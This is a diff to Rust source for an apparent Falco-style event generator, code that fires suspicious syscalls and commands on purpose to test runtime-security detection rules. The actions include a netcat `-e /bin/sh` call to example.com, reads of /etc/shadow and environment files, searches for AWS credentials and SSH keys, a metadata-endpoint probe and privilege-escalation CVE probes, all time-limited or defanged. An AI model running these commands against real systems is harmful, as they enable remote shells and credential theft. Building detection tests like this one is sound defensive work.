@@ -311,28 +311,44 @@ pub(crate) static ACTIONS: &[Action] = &[
     a("syscall.WriteBelowRpmDatabase", E, write_below_rpm_database),
 ];
 
-/// The child halves of actions that re-execute this binary under another name (upstream's
-/// `helper.*` actions, hidden from `list`).
+/// Ours, not upstream's: actions for two stable rules upstream has none for (hidden from `list`,
+/// printed by `extras`).
+pub(crate) static EXTRAS: &[Action] = &[
+    a(
+        "extra.RedirectStdoutStdinToNetworkConnectionInContainer",
+        C,
+        redirect_stdout_to_network_connection,
+    ),
+    a(
+        "extra.LinuxKernelModuleInjection",
+        C,
+        linux_kernel_module_injection,
+    ),
+];
+
+/// What a process re-executed under another name runs (upstream's `helper.*` actions, same
+/// names, hidden from `list`).
 static HELPERS: &[Action] = &[
     a("helper.DoNothing", E, || Ok(Outcome::Done)),
     a("helper.RunShell", E, helper_run_shell),
     a("helper.ExecLs", E, helper_exec_ls),
+    a("helper.InboundConnection", E, helper_inbound_connection),
+    a("helper.OutboundConnection", E, helper_outbound_connection),
     a(
-        "helper.ReadSensitiveFileAfterStartup",
+        "helper.CombinedServerClient",
         E,
-        helper_read_sensitive_file_after_startup,
+        helper_combined_server_client,
     ),
-    a("helper.NonSudoSetuid", E, helper_non_sudo_setuid),
-    a("helper.Userfaultfd", E, helper_userfaultfd),
-    a("helper.InboundListen", E, helper_inbound_listen),
-    a("helper.OutboundUdp", E, helper_outbound_udp),
-    a("helper.JavaClassFile", E, helper_java_class_file),
-    a("helper.SystemProcsUdp", E, helper_system_procs_udp),
+    a("helper.NetworkActivity", E, helper_network_activity),
 ];
 
 /// The action or helper named `name`.
 pub(crate) fn find(name: &str) -> Option<&'static Action> {
-    ACTIONS.iter().chain(HELPERS).find(|a| a.name == name)
+    ACTIONS
+        .iter()
+        .chain(EXTRAS)
+        .chain(HELPERS)
+        .find(|a| a.name == name)
 }
 
 /// Runs `action` after its place check.
@@ -379,6 +395,7 @@ fn in_container() -> bool {
 }
 
 const CAP_DAC_OVERRIDE: u32 = 1;
+const CAP_SYS_MODULE: u32 = 16;
 const CAP_SYS_ADMIN: u32 = 21;
 
 /// The effective capability set, from `/proc/self/status` (upstream decodes it with `capsh`).
@@ -390,6 +407,24 @@ fn cap_eff() -> Result<u64, Fail> {
         .map(str::trim)
         .ok_or_else(|| Fail("no CapEff in /proc/self/status".into()))?;
     u64::from_str_radix(hex, 16).map_err(|e| Fail(format!("CapEff {hex:?}: {e}")))
+}
+
+/// CapEff as upstream's capability checks read it: `sh -c "cat /proc/self/status | grep CapEff
+/// | awk '{print $2}'"` (the shell's set is the caller's: no setuid, no file capabilities in
+/// between); upstream then decodes it with `capsh --decode`, here in Rust.
+fn cap_eff_via_shell() -> Result<u64, Fail> {
+    if look_path("sh").is_none() {
+        return cap_eff();
+    }
+    let out = Command::new("sh")
+        .args([
+            "-c",
+            "cat /proc/self/status | grep CapEff | awk '{print $2}'",
+        ])
+        .stdin(Stdio::null())
+        .output()?;
+    let hex = String::from_utf8_lossy(&out.stdout).trim().to_string();
+    u64::from_str_radix(&hex, 16).map_err(|e| Fail(format!("CapEff {hex:?}: {e}")))
 }
 
 fn has_cap(set: u64, cap: u32) -> bool {
@@ -464,8 +499,14 @@ fn look_path(prog: &str) -> Option<PathBuf> {
         .find(|p| fs::metadata(p).is_ok_and(|m| m.is_file() && m.permissions().mode() & 0o111 != 0))
 }
 
-fn need(prog: &str) -> Result<PathBuf, Outcome> {
-    look_path(prog).ok_or_else(|| Outcome::Skipped(format!("{prog} not found in PATH")))
+/// `exec.Command(prog)`: the program found in PATH, `argv[0]` the name as given (what
+/// `proc.exe` shows); skipped when it is missing.
+fn need(prog: &str) -> Result<Command, Outcome> {
+    let path =
+        look_path(prog).ok_or_else(|| Outcome::Skipped(format!("{prog} not found in PATH")))?;
+    let mut cmd = Command::new(path);
+    cmd.arg0(prog);
+    Ok(cmd)
 }
 
 macro_rules! need {
@@ -542,26 +583,41 @@ fn self_exe() -> Result<PathBuf, Fail> {
     Ok(fs::read_link("/proc/self/exe")?)
 }
 
-/// Re-executes this binary through a symlink named `alias` in a new temporary directory, as
-/// `alias run helper`, and waits for it.
-fn spawn_as_symlink(action: &str, alias: &str, helper: &str) -> Res {
-    let dir = action_dir(action)?;
+/// Upstream's `Spawned()`: started under another name than the executable's (through a symlink).
+fn spawned() -> bool {
+    let argv0 = std::env::args_os().next().unwrap_or_default();
+    let called = Path::new(&argv0).file_name().map(|n| n.to_os_string());
+    let exe = fs::read_link("/proc/self/exe")
+        .ok()
+        .and_then(|p| p.file_name().map(|n| n.to_os_string()));
+    called.is_some() && called != exe
+}
+
+/// Upstream's `SpawnAsWithSymlink`: a symlink `alias` to this binary in a new temporary
+/// directory, executed as `alias run ^action$ extra...`, waited for.
+fn spawn_as_symlink(alias: &str, action: &str, extra: &[&str]) -> Res {
+    let dir = mkdir_temp(&std::env::temp_dir(), "falco-event-generator")?;
     let link = dir.join(alias);
     let result = symlink(self_exe()?, &link)
         .map_err(Fail::from)
-        .and_then(|()| run(Command::new(&link).args(["run", helper])));
+        .and_then(|()| {
+            run(Command::new(&link)
+                .args(["run", &format!("^{action}$")])
+                .args(extra))
+        });
     let _ = fs::remove_dir_all(&dir);
     helper_status(alias, result?)
 }
 
-/// Re-executes a copy of this binary named `alias` (mode 0755) in a new temporary directory.
-fn spawn_as_copy(action: &str, alias: &str, helper: &str) -> Res {
-    let dir = action_dir(action)?;
+/// A copy of this binary named `alias` (0755) in a new temporary directory, executed as
+/// `alias run ^helper$`, waited for.
+fn spawn_as_copy(alias: &str, helper: &str) -> Res {
+    let dir = mkdir_temp(&std::env::temp_dir(), "falco-event-generator")?;
     let copy = dir.join(alias);
     let result = fs::copy(self_exe()?, &copy)
         .and_then(|_| fs::set_permissions(&copy, fs::Permissions::from_mode(0o755)))
         .map_err(Fail::from)
-        .and_then(|()| run(Command::new(&copy).args(["run", helper])));
+        .and_then(|()| run(Command::new(&copy).args(["run", &format!("^{helper}$")])));
     let _ = fs::remove_dir_all(&dir);
     helper_status(alias, result?)
 }
@@ -621,29 +677,21 @@ fn adding_ssh_keys_to_authorized_keys() -> Res {
 /// arguments (it calls unshare(0), then starts a shell that finds its standard input at EOF).
 fn change_namespace_privileges_via_unshare() -> Res {
     need!("sh");
-    let unshare = need!("unshare");
-    let out = Command::new("sh")
-        .args([
-            "-c",
-            "cat /proc/self/status | grep CapEff | awk '{print $2}'",
-        ])
-        .stdin(Stdio::null())
-        .output()?;
-    let hex = String::from_utf8_lossy(&out.stdout).trim().to_string();
-    let caps = u64::from_str_radix(&hex, 16).map_err(|e| Fail(format!("CapEff {hex:?}: {e}")))?;
+    let mut unshare = need!("unshare");
+    let caps = cap_eff_via_shell()?;
     if has_cap(caps, CAP_SYS_ADMIN) {
         return Ok(Outcome::Skipped(
             "CAP_SYS_ADMIN is effective (privileged container)".into(),
         ));
     }
-    run_limit(&mut Command::new(unshare), Duration::from_secs(2))?;
+    run_limit(&mut unshare, Duration::from_secs(2))?;
     Ok(Outcome::Done)
 }
 
 /// setns(0, 0): expected to fail (fd 0 is no namespace); the attempt is the signal. In a
 /// container, skipped without CAP_SYS_ADMIN.
 fn change_thread_namespace() -> Res {
-    if in_container() && !has_cap(cap_eff()?, CAP_SYS_ADMIN) {
+    if in_container() && !has_cap(cap_eff_via_shell()?, CAP_SYS_ADMIN) {
         return Ok(Outcome::Skipped("CAP_SYS_ADMIN is not effective".into()));
     }
     let stdin = std::io::stdin();
@@ -666,11 +714,8 @@ fn clear_log_activities() -> Res {
 
 /// `nc 169.254.169.254 80` with a 1 s limit; its failure is ignored.
 fn contact_ec2_instance_metadata() -> Res {
-    let nc = need!("nc");
-    run_limit(
-        Command::new(nc).args(["169.254.169.254", "80"]),
-        Duration::from_secs(1),
-    )?;
+    let mut nc = need!("nc");
+    run_limit(nc.args(["169.254.169.254", "80"]), Duration::from_secs(1))?;
     Ok(Outcome::Done)
 }
 
@@ -714,14 +759,10 @@ fn create_files_below_dev() -> Res {
 
 /// `ln -v /etc/shadow <tmpdir>/shadow_link`, then reads the file through the link.
 fn create_hardlink_over_sensitive_files() -> Res {
-    let ln = need!("ln");
+    let mut ln = need!("ln");
     let dir = action_dir("CreateHardlinkOverSensitiveFiles")?;
     let link = dir.join("shadow_link");
-    let r = run_accepting(
-        Command::new(ln).arg("-v").arg("/etc/shadow").arg(&link),
-        &[],
-    )
-    .and_then(|o| {
+    let r = run_accepting(ln.arg("-v").arg("/etc/shadow").arg(&link), &[]).and_then(|o| {
         fs::read(&link)?;
         Ok(o)
     });
@@ -741,10 +782,10 @@ fn create_hidden_files_or_directories() -> Res {
 
 /// `ln -s /etc <tmpdir>/etc_link`, then lists the directory through the link.
 fn create_symlink_over_sensitive_files() -> Res {
-    let ln = need!("ln");
+    let mut ln = need!("ln");
     let dir = action_dir("CreateSymlinkOverSensitiveFiles")?;
     let link = dir.join("etc_link");
-    let r = run_accepting(Command::new(ln).arg("-s").arg("/etc").arg(&link), &[]).and_then(|o| {
+    let r = run_accepting(ln.arg("-s").arg("/etc").arg(&link), &[]).and_then(|o| {
         fs::read_dir(&link)?.count();
         Ok(o)
     });
@@ -754,7 +795,7 @@ fn create_symlink_over_sensitive_files() -> Res {
 
 /// A symlink `mysqld` to this binary, executed; it executes /bin/ls.
 fn db_program_spawned_process() -> Res {
-    spawn_as_symlink("DbProgramSpawnedProcess", "mysqld", "helper.ExecLs")
+    spawn_as_symlink("mysqld", "helper.ExecLs", &[])
 }
 
 fn helper_exec_ls() -> Res {
@@ -765,11 +806,11 @@ fn helper_exec_ls() -> Res {
 /// the exec (upstream clones with CLONE_NEWNS|CLONE_NEWUSER; here the forked child calls
 /// unshare with the same flags, then execs).
 fn debugfs_launched_in_privileged_container() -> Res {
-    if !has_cap(cap_eff()?, CAP_SYS_ADMIN) {
+    if !has_cap(cap_eff_via_shell()?, CAP_SYS_ADMIN) {
         return Ok(Outcome::Skipped("CAP_SYS_ADMIN is not effective".into()));
     }
     let debugfs = need!("debugfs");
-    let mut cmd = Command::new(debugfs);
+    let mut cmd = debugfs;
     cmd.arg("-V");
     in_new_namespaces(&mut cmd);
     run(&mut cmd)?;
@@ -794,10 +835,9 @@ fn in_new_namespaces(cmd: &mut Command) {
 /// `echo ZGVjb2RlZF9ieV9ldmVudC1nZW5lcmF0b3I= | base64 -d` executed directly (no shell): the
 /// command line carries the base64 string and `base64 -d`; nothing is decoded.
 fn decoding_payload_in_container() -> Res {
-    let echo = need!("echo");
+    let mut echo = need!("echo");
     run_accepting(
-        Command::new(echo)
-            .args(["ZGVjb2RlZF9ieV9ldmVudC1nZW5lcmF0b3I=", "|", "base64", "-d"])
+        echo.args(["ZGVjb2RlZF9ieV9ldmVudC1nZW5lcmF0b3I=", "|", "base64", "-d"])
             .stdout(Stdio::null()),
         &[],
     )
@@ -824,10 +864,9 @@ fn delete_or_rename_shell_history() -> Res {
 
 /// `echo "-o stratum+tcp" "-u user" "-p pass"`: the Stratum URL scheme on a command line.
 fn detect_crypto_miners_stratum() -> Res {
-    let echo = need!("echo");
+    let mut echo = need!("echo");
     run_accepting(
-        Command::new(echo)
-            .args(["-o stratum+tcp", "-u user", "-p pass"])
+        echo.args(["-o stratum+tcp", "-u user", "-p pass"])
             .stdout(Stdio::null()),
         &[],
     )
@@ -836,7 +875,7 @@ fn detect_crypto_miners_stratum() -> Res {
 /// With CAP_SYS_ADMIN and root (or CAP_DAC_OVERRIDE): `sh -c "echo 'hello world' >
 /// release_agent"` in the current directory; the file is removed afterwards.
 fn detect_release_agent_file() -> Res {
-    let caps = cap_eff()?;
+    let caps = cap_eff_via_shell()?;
     if !(is_root() || has_cap(caps, CAP_DAC_OVERRIDE)) {
         return Ok(Outcome::Skipped("needs root or CAP_DAC_OVERRIDE".into()));
     }
@@ -860,9 +899,9 @@ fn directory_traversal_monitored_file_read() -> Res {
 
 /// `ssh user@example.com -p 443` (5 s limit upstream); its result is ignored.
 fn disallowed_ssh_connection() -> Res {
-    let ssh = need!("ssh");
+    let mut ssh = need!("ssh");
     run_limit(
-        Command::new(ssh).args(["user@example.com", "-p", "443"]),
+        ssh.args(["user@example.com", "-p", "443"]),
         Duration::from_secs(5),
     )?;
     Ok(Outcome::Done)
@@ -873,7 +912,9 @@ fn disallowed_ssh_connection() -> Res {
 /// signal: its exit status is not checked (busybox's `ls` is busybox, which answers a name it
 /// does not know with exit 127).
 fn drop_and_execute_new_binary() -> Res {
-    let ls = need!("ls");
+    let Some(ls) = look_path("ls") else {
+        return Ok(Outcome::Skipped("ls not found in PATH".into()));
+    };
     let bytes = fs::read(&ls)?;
     let p = PathBuf::from(format!(
         "/bin/falco-event-generator-syscall-DropAndExecuteNewBinaryInContainer-{}",
@@ -935,14 +976,10 @@ fn fileless_execution_via_memfd_create() -> Res {
 
 /// `find $TMPDIR -maxdepth 1 -iname .aws/credentials` (finds nothing).
 fn find_aws_credentials() -> Res {
-    let find = need!("find");
+    let mut find = need!("find");
     run_accepting(
-        Command::new(find).arg(std::env::temp_dir()).args([
-            "-maxdepth",
-            "1",
-            "-iname",
-            ".aws/credentials",
-        ]),
+        find.arg(std::env::temp_dir())
+            .args(["-maxdepth", "1", "-iname", ".aws/credentials"]),
         &[],
     )
 }
@@ -950,34 +987,28 @@ fn find_aws_credentials() -> Res {
 /// A copy of this binary named `lua` listens on a non-loopback IPv4 address of the host
 /// (bind+listen, ephemeral port), then closes.
 fn interpreted_procs_inbound() -> Res {
-    spawn_as_copy(
-        "InterpretedProcsInboundNetworkActivity",
-        "lua",
-        "helper.InboundListen",
-    )
+    spawn_as_copy("lua", "helper.InboundConnection")
 }
 
-fn helper_inbound_listen() -> Res {
+fn helper_inbound_connection() -> Res {
     let ip = nix::ifaddrs::getifaddrs()?
         .filter_map(|i| i.address.and_then(|a| a.as_sockaddr_in().map(|s| s.ip())))
         .find(|ip| !ip.is_loopback());
     let Some(ip) = ip else {
         return fail("no non-loopback IPv4 address");
     };
+    // one listener, as actions.json describes (an indexed upstream version first probed a free
+    // port with a second listener, which makes the rule fire twice)
     drop(TcpListener::bind(SocketAddr::from((ip, 0)))?);
     Ok(Outcome::Done)
 }
 
 /// A copy of this binary named `lua` connects a UDP socket to example.net:53, then closes.
 fn interpreted_procs_outbound() -> Res {
-    spawn_as_copy(
-        "InterpretedProcsOutboundNetworkActivity",
-        "lua",
-        "helper.OutboundUdp",
-    )
+    spawn_as_copy("lua", "helper.OutboundConnection")
 }
 
-fn helper_outbound_udp() -> Res {
+fn helper_outbound_connection() -> Res {
     let addr = "example.net:53"
         .to_socket_addrs()?
         .next()
@@ -990,14 +1021,10 @@ fn helper_outbound_udp() -> Res {
 /// A copy of this binary named `java`: a UDP server on localhost:1234, a client connected to it
 /// sends CA FE BA BE, the server receives it.
 fn java_process_class_file_download() -> Res {
-    spawn_as_copy(
-        "JavaProcessClassFileDownload",
-        "java",
-        "helper.JavaClassFile",
-    )
+    spawn_as_copy("java", "helper.CombinedServerClient")
 }
 
-fn helper_java_class_file() -> Res {
+fn helper_combined_server_client() -> Res {
     let server = UdpSocket::bind("127.0.0.1:1234")?;
     server.set_read_timeout(Some(Duration::from_secs(2)))?;
     let client = UdpSocket::bind("127.0.0.1:0")?;
@@ -1015,7 +1042,7 @@ fn helper_java_class_file() -> Res {
 /// temporary directory and executed.
 fn kubernetes_client_tool() -> Res {
     if let Some(k) = look_path("kubectl") {
-        run(&mut Command::new(k))?;
+        run(Command::new(k).arg0("kubectl"))?;
         return Ok(Outcome::Done);
     }
     let dir = action_dir("KubernetesClientToolLaunchedInContainer")?;
@@ -1036,20 +1063,17 @@ fn kubernetes_client_tool() -> Res {
 
 /// `wget -V`; a failure is ignored.
 fn launch_ingress_remote_file_copy() -> Res {
-    let wget = need!("wget");
-    run_limit(
-        Command::new(wget).arg("-V").stderr(Stdio::null()),
-        Duration::from_secs(2),
-    )?;
+    let mut wget = need!("wget");
+    run_limit(wget.arg("-V").stderr(Stdio::null()), Duration::from_secs(2))?;
     Ok(Outcome::Done)
 }
 
 /// `apk version`, or `apt-get --version` without apk; skipped without either.
 fn launch_package_management() -> Res {
     if let Some(apk) = look_path("apk") {
-        run(Command::new(apk).arg("version"))?;
+        run(Command::new(apk).arg0("apk").arg("version"))?;
     } else if let Some(apt) = look_path("apt-get") {
-        run(Command::new(apt).arg("--version"))?;
+        run(Command::new(apt).arg0("apt-get").arg("--version"))?;
     } else {
         return Ok(Outcome::Skipped("neither apk nor apt-get in PATH".into()));
     }
@@ -1058,28 +1082,22 @@ fn launch_package_management() -> Res {
 
 /// `scp` with no arguments; its failure is ignored.
 fn launch_remote_file_copy() -> Res {
-    let scp = need!("scp");
-    run(&mut Command::new(scp))?;
+    let mut scp = need!("scp");
+    run(&mut scp)?;
     Ok(Outcome::Done)
 }
 
 /// `nmap -sn 192.168.1.0/24` with a 1 s limit; failure ignored.
 fn launch_network_tool_in_container() -> Res {
-    let nmap = need!("nmap");
-    run_limit(
-        Command::new(nmap).args(["-sn", "192.168.1.0/24"]),
-        Duration::from_secs(1),
-    )?;
+    let mut nmap = need!("nmap");
+    run_limit(nmap.args(["-sn", "192.168.1.0/24"]), Duration::from_secs(1))?;
     Ok(Outcome::Done)
 }
 
 /// `nmap -sn 172.17.0.1/32` with a 1 s limit; failure ignored (host only).
 fn launch_network_tool_on_host() -> Res {
-    let nmap = need!("nmap");
-    run_limit(
-        Command::new(nmap).args(["-sn", "172.17.0.1/32"]),
-        Duration::from_secs(1),
-    )?;
+    let mut nmap = need!("nmap");
+    run_limit(nmap.args(["-sn", "172.17.0.1/32"]), Duration::from_secs(1))?;
     Ok(Outcome::Done)
 }
 
@@ -1143,11 +1161,11 @@ fn modify_shell_configuration_file() -> Res {
 /// With CAP_SYS_ADMIN, `mount -o` in a child in new mount and user namespaces; the mount
 /// command's failure is ignored.
 fn mount_launched_in_privileged_container() -> Res {
-    if !has_cap(cap_eff()?, CAP_SYS_ADMIN) {
+    if !has_cap(cap_eff_via_shell()?, CAP_SYS_ADMIN) {
         return Ok(Outcome::Skipped("CAP_SYS_ADMIN is not effective".into()));
     }
     let mount = need!("mount");
-    let mut cmd = Command::new(mount);
+    let mut cmd = mount;
     cmd.arg("-o").stderr(Stdio::null());
     in_new_namespaces(&mut cmd);
     run(&mut cmd)?;
@@ -1156,20 +1174,24 @@ fn mount_launched_in_privileged_container() -> Res {
 
 /// `nc -e /bin/sh example.com 22` with a 1 s limit; failure ignored.
 fn netcat_remote_code_execution() -> Res {
-    let nc = need!("nc");
+    let mut nc = need!("nc");
     run_limit(
-        Command::new(nc).args(["-e", "/bin/sh", "example.com", "22"]),
+        nc.args(["-e", "/bin/sh", "example.com", "22"]),
         Duration::from_secs(1),
     )?;
     Ok(Outcome::Done)
 }
 
-/// Re-executes through a symlink `child`, which calls setuid(daemon) then setuid(0).
+/// Re-executes itself through a symlink `child`; the child calls setuid(daemon), then
+/// setuid(0).
 fn non_sudo_setuid() -> Res {
-    spawn_as_symlink("NonSudoSetuid", "child", "helper.NonSudoSetuid")
+    if spawned() {
+        return setuid_daemon_then_root();
+    }
+    spawn_as_symlink("child", "syscall.NonSudoSetuid", &[])
 }
 
-fn helper_non_sudo_setuid() -> Res {
+fn setuid_daemon_then_root() -> Res {
     let (uid, _) = lookup_user("daemon")?;
     match nix::unistd::setuid(Uid::from_raw(uid)) {
         Ok(()) | Err(nix::Error::EPERM) => {}
@@ -1200,8 +1222,8 @@ fn as_daemon(cmd: &mut Command) -> Result<&mut Command, Fail> {
 
 /// `pkexec` with no arguments as `daemon`; exit 127 (patched pkexec) is a skip.
 fn polkit_cve_2021_4034() -> Res {
-    let pkexec = need!("pkexec");
-    let st = run(as_daemon(&mut Command::new(pkexec))?)?;
+    let mut pkexec = need!("pkexec");
+    let st = run(as_daemon(&mut pkexec)?)?;
     match st.code() {
         Some(127) => Ok(Outcome::Skipped("pkexec exited 127 (patched)".into())),
         _ => Ok(Outcome::Done),
@@ -1227,10 +1249,9 @@ fn glibc_tunables() -> Res {
 /// `curl http://example.com` with HTTP_PROXY="http://my.http.proxy.com " (trailing space);
 /// curl's failure is the action's.
 fn program_run_with_http_proxy_env() -> Res {
-    let curl = need!("curl");
+    let mut curl = need!("curl");
     run_accepting(
-        Command::new(curl)
-            .arg("http://example.com")
+        curl.arg("http://example.com")
             .env("HTTP_PROXY", "http://my.http.proxy.com "),
         &[],
     )
@@ -1240,7 +1261,7 @@ fn program_run_with_http_proxy_env() -> Res {
 /// killed and reaped.
 fn ptrace_anti_debug_attempt() -> Res {
     let sleep = need!("sleep");
-    let mut cmd = Command::new(sleep);
+    let mut cmd = sleep;
     cmd.arg("3600").stdin(Stdio::null());
     #[expect(unsafe_code, reason = "pre_exec: the forked child asks to be traced")]
     // SAFETY: the closure runs in the forked child before exec and only makes the ptrace
@@ -1256,11 +1277,8 @@ fn ptrace_anti_debug_attempt() -> Res {
 
 /// `sleep 3600`, ptrace(PTRACE_ATTACH) to it, detach, kill, reap.
 fn ptrace_attached_to_process() -> Res {
-    let sleep = need!("sleep");
-    let mut child = Command::new(sleep)
-        .arg("3600")
-        .stdin(Stdio::null())
-        .spawn()?;
+    let mut sleep = need!("sleep");
+    let mut child = sleep.arg("3600").stdin(Stdio::null()).spawn()?;
     let pid = Pid::from_raw(i32::try_from(child.id()).map_err(|e| Fail(e.to_string()))?);
     let r = nix::sys::ptrace::attach(pid).and_then(|()| {
         nix::sys::wait::waitpid(pid, Some(nix::sys::wait::WaitPidFlag::__WALL))?;
@@ -1274,29 +1292,19 @@ fn ptrace_attached_to_process() -> Res {
 
 /// `cat /proc/self/environ`.
 fn read_environment_from_proc_files() -> Res {
-    let cat = need!("cat");
-    run_accepting(
-        Command::new(cat)
-            .arg("/proc/self/environ")
-            .stdout(Stdio::null()),
-        &[],
-    )
+    let mut cat = need!("cat");
+    run_accepting(cat.arg("/proc/self/environ").stdout(Stdio::null()), &[])
 }
 
-/// A symlink `httpd` to this binary, executed; 6 s after its start it opens /etc/shadow
-/// read-only (a trusted server program reading a sensitive file after its startup).
+/// A symlink `httpd` to this binary runs `ReadSensitiveFileUntrusted` after `--sleep 6s`: a
+/// trusted server program opens /etc/shadow well after its startup (Falco's `proc_is_new` is
+/// 5 s).
 fn read_sensitive_file_trusted_after_startup() -> Res {
     spawn_as_symlink(
-        "ReadSensitiveFileTrustedAfterStartup",
         "httpd",
-        "helper.ReadSensitiveFileAfterStartup",
+        "syscall.ReadSensitiveFileUntrusted",
+        &["--sleep", "6s"],
     )
-}
-
-fn helper_read_sensitive_file_after_startup() -> Res {
-    std::thread::sleep(Duration::from_secs(6));
-    File::open("/etc/shadow")?;
-    Ok(Outcome::Done)
 }
 
 /// open("/etc/shadow", O_RDONLY), closed.
@@ -1347,21 +1355,21 @@ fn read_ssh_information() -> Res {
 
 /// A temporary file with some bytes, then `shred -u <file>`.
 fn remove_bulk_data_from_disk() -> Res {
-    let shred = need!("shred");
+    let mut shred = need!("shred");
     let (mut f, p) = create_temp(
         &std::env::temp_dir(),
         "falco-event-generator-syscall-RemoveBulkDataFromDisk-",
     )?;
     f.write_all(b"bulk data written by falco-event-generator\n")?;
     drop(f);
-    let r = run_accepting(Command::new(shred).arg("-u").arg(&p), &[]);
+    let r = run_accepting(shred.arg("-u").arg(&p), &[]);
     let _ = fs::remove_file(&p);
     r
 }
 
 /// A symlink `httpd` to this binary, executed; it runs `sh -c "ls > /dev/null"`.
 fn run_shell_untrusted() -> Res {
-    spawn_as_symlink("RunShellUntrusted", "httpd", "helper.RunShell")
+    spawn_as_symlink("httpd", "helper.RunShell", &[])
 }
 
 fn helper_run_shell() -> Res {
@@ -1371,16 +1379,15 @@ fn helper_run_shell() -> Res {
 
 /// `crontab -l`; exit 1 (no crontab) is accepted.
 fn schedule_cron_jobs() -> Res {
-    let crontab = need!("crontab");
-    run_accepting(Command::new(crontab).arg("-l").stderr(Stdio::null()), &[1])
+    let mut crontab = need!("crontab");
+    run_accepting(crontab.arg("-l").stderr(Stdio::null()), &[1])
 }
 
 /// `find $TMPDIR -maxdepth 1 -iname id_rsa` (finds nothing).
 fn search_private_keys_or_passwords() -> Res {
-    let find = need!("find");
+    let mut find = need!("find");
     run_accepting(
-        Command::new(find)
-            .arg(std::env::temp_dir())
+        find.arg(std::env::temp_dir())
             .args(["-maxdepth", "1", "-iname", "id_rsa"]),
         &[],
     )
@@ -1388,23 +1395,21 @@ fn search_private_keys_or_passwords() -> Res {
 
 /// A temporary file, `chmod u+s <file>`, removed.
 fn set_setuid_or_setgid_bit() -> Res {
-    let chmod = need!("chmod");
+    let mut chmod = need!("chmod");
     let (f, p) = create_temp(
         &std::env::temp_dir(),
         "falco-event-generator-syscall-SetSetuidOrSetgidBit-",
     )?;
     drop(f);
-    let r = run_accepting(Command::new(chmod).arg("u+s").arg(&p), &[]);
+    let r = run_accepting(chmod.arg("u+s").arg(&p), &[]);
     let _ = fs::remove_file(&p);
     r
 }
 
 /// `sudoedit -u daemon -s 'ls\'` as `daemon`; exit 1 (patched sudo) is a skip.
 fn sudo_potential_privilege_escalation() -> Res {
-    let sudoedit = need!("sudoedit");
-    let st = run(as_daemon(
-        Command::new(sudoedit).args(["-u", "daemon", "-s", "ls\\"]),
-    )?)?;
+    let mut sudoedit = need!("sudoedit");
+    let st = run(as_daemon(sudoedit.args(["-u", "daemon", "-s", "ls\\"]))?)?;
     match st.code() {
         Some(1) => Ok(Outcome::Skipped("sudoedit exited 1 (patched)".into())),
         _ => Ok(Outcome::Done),
@@ -1413,14 +1418,10 @@ fn sudo_potential_privilege_escalation() -> Res {
 
 /// A symlink `sha1sum` to this binary, executed; it connects a UDP socket to 10.2.3.4:8192.
 fn system_procs_network_activity() -> Res {
-    spawn_as_symlink(
-        "SystemProcsNetworkActivity",
-        "sha1sum",
-        "helper.SystemProcsUdp",
-    )
+    spawn_as_symlink("sha1sum", "helper.NetworkActivity", &[])
 }
 
-fn helper_system_procs_udp() -> Res {
+fn helper_network_activity() -> Res {
     let s = UdpSocket::bind(SocketAddr::from(([0, 0, 0, 0], 0)))?;
     s.connect(SocketAddr::from(([10, 2, 3, 4], 8192)))?;
     Ok(Outcome::Done)
@@ -1443,24 +1444,25 @@ fn system_user_interactive() -> Res {
 
 /// `nc -u example.com 22` with a 1 s limit; failure ignored.
 fn unexpected_udp_traffic() -> Res {
-    let nc = need!("nc");
-    run_limit(
-        Command::new(nc).args(["-u", "example.com", "22"]),
-        Duration::from_secs(1),
-    )?;
+    let mut nc = need!("nc");
+    run_limit(nc.args(["-u", "example.com", "22"]), Duration::from_secs(1))?;
     Ok(Outcome::Done)
 }
 
-/// Re-executes through a symlink `child`, which calls setuid(daemon), then userfaultfd.
+/// Re-executes itself through a symlink `child`; the child calls setuid(daemon), then
+/// userfaultfd.
 fn userfaultfd() -> Res {
+    if spawned() {
+        return userfaultfd_as_daemon();
+    }
     spawn_as_symlink(
-        "UnprivilegedDelegationOfPageFaultsHandlingToAUserspaceProcess",
         "child",
-        "helper.Userfaultfd",
+        "syscall.UnprivilegedDelegationOfPageFaultsHandlingToAUserspaceProcess",
+        &[],
     )
 }
 
-fn helper_userfaultfd() -> Res {
+fn userfaultfd_as_daemon() -> Res {
     let (uid, _) = lookup_user("daemon")?;
     nix::unistd::setuid(Uid::from_raw(uid)).map_err(|e| Fail(format!("setuid({uid}): {e}")))?;
     #[expect(unsafe_code, reason = "userfaultfd has no safe wrapper")]
@@ -1475,7 +1477,7 @@ fn helper_userfaultfd() -> Res {
 
 /// On the host: a symlink `vipw` to this binary, executed; it executes /bin/ls.
 fn user_mgmt_binaries() -> Res {
-    spawn_as_symlink("UserMgmtBinaries", "vipw", "helper.ExecLs")
+    spawn_as_symlink("vipw", "helper.ExecLs", &[])
 }
 
 fn write_below(dir: &str, name: &str) -> Res {
@@ -1506,4 +1508,38 @@ fn write_below_root() -> Res {
 /// A new temporary file under /var/lib/rpm (created if missing), removed.
 fn write_below_rpm_database() -> Res {
     write_below("/var/lib/rpm", "WriteBelowRpmDatabase")
+}
+
+// ---------------------------------------------------------------------------------------------
+// extras (ours)
+
+/// For "Redirect STDOUT/STDIN to Network Connection in Container" (stable; upstream once had an
+/// action for it): a loopback TCP connection, whose accepted end is `dup2`ed onto standard
+/// output (one `dup2` returning 1 on an IPv4 socket, what the rule asks for), then standard
+/// output is restored from a saved copy (a `dup2` of a pipe or file: not a socket).
+fn redirect_stdout_to_network_connection() -> Res {
+    let listener = TcpListener::bind("127.0.0.1:0")?;
+    let client = std::net::TcpStream::connect(listener.local_addr()?)?;
+    let (server, _) = listener.accept()?;
+    let saved = nix::unistd::dup(std::io::stdout().as_fd())?;
+    let redirected = nix::unistd::dup2_stdout(&server);
+    let restored = nix::unistd::dup2_stdout(&saved);
+    drop(client);
+    redirected?;
+    restored?;
+    Ok(Outcome::Done)
+}
+
+/// For "Linux Kernel Module Injection Detected" (stable, needs CAP_SYS_MODULE): `init_module` of
+/// an image that is no ELF module, which the kernel refuses (ENOEXEC or EINVAL) before loading
+/// anything; the call is the signal. Skipped without CAP_SYS_MODULE.
+fn linux_kernel_module_injection() -> Res {
+    if !has_cap(cap_eff()?, CAP_SYS_MODULE) {
+        return Ok(Outcome::Skipped("CAP_SYS_MODULE is not effective".into()));
+    }
+    let image = b"not an ELF kernel module, written by rampart-eventgen\0";
+    match nix::kmod::init_module(image, c"") {
+        Ok(()) => fail("the kernel accepted a bogus module image"),
+        Err(_) => Ok(Outcome::Done),
+    }
 }
